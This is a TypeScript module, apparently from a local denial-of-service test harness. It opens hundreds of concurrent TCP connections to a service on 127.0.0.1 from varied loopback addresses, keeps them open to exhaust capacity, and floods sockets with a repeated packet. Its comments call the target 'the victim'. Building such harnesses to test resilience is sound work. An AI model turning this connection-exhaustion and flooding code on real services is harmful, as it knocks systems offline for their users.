import { connect, type Socket } from "node:net";
import type { Target } from "./attack.js";
import type { Gains } from "./gains.js";

const CONNECT_WITHIN_MS = 5_000;
const AT_ONCE = 200;

type Opening = { readonly port: number; readonly from: string; readonly gains: Gains; readonly isUnread?: true };

/** @returns Undefined if the service does not accept the connection. */
export const openSocket = ({ port, from, gains, isUnread }: Opening): Promise<Socket | undefined> =>
  new Promise((resolve) => {
    const socket = connect({ port, host: "127.0.0.1", localAddress: from, noDelay: true });
    const giveUp = setTimeout(() => socket.destroy(), CONNECT_WITHIN_MS);
    let isOpen = false;
    socket.on("error", () => {});
    const read = gains.reader();
    if (isUnread === undefined) socket.on("data", (data: Buffer) => void read(data));
    else socket.pause();
    socket.once("connect", () => {
      isOpen = true;
      clearTimeout(giveUp);
      gains.opened();
      resolve(socket);
    });
    socket.once("close", () => {
      clearTimeout(giveUp);
      if (isOpen) gains.closed();
      else gains.refused();
      resolve(undefined);
    });
  });

/** Returns an address in 127.0.0.0/8. On Linux all of these are loopback addresses. The victim uses other ones. */
export const addressAt = (at: number): string => `127.0.${Math.floor(at / 250)}.${2 + (at % 250)}`;

/** Returns a function that assigns this many connections to each address. */
export const addressOfMany =
  (each: number) =>
  (at: number): string =>
    `127.0.0.${2 + Math.floor(at / each)}`;

type Many = Pick<Target, "port" | "first" | "count"> & {
  readonly from: (at: number) => string;
  readonly gains: Gains;
  readonly signal: AbortSignal;
  readonly onOpen: (socket: Socket, at: number) => void;
};

/** Opens `count` connections as fast as the service accepts them, and leaves them open. */
export const openMany = async ({ port, first, count, from, gains, signal, onOpen }: Many): Promise<void> => {
  let next = first;
  const opener = async () => {
    while (next < first + count && !signal.aborted) {
      const at = next;
      next += 1;
      const socket = await openSocket({ port, from: from(at), gains });
      if (socket !== undefined) onOpen(socket, at);
    }
  };
  await Promise.all(Array.from({ length: Math.min(AT_ONCE, count) }, opener));
};

/** Writes `packet` again and again, as fast as the service reads it. */
export const flood = (socket: Socket, packet: Buffer, signal: AbortSignal): void => {
  const send = () => {
    if (!signal.aborted && !socket.destroyed) socket.write(packet, () => setImmediate(send));
  };
  send();
};
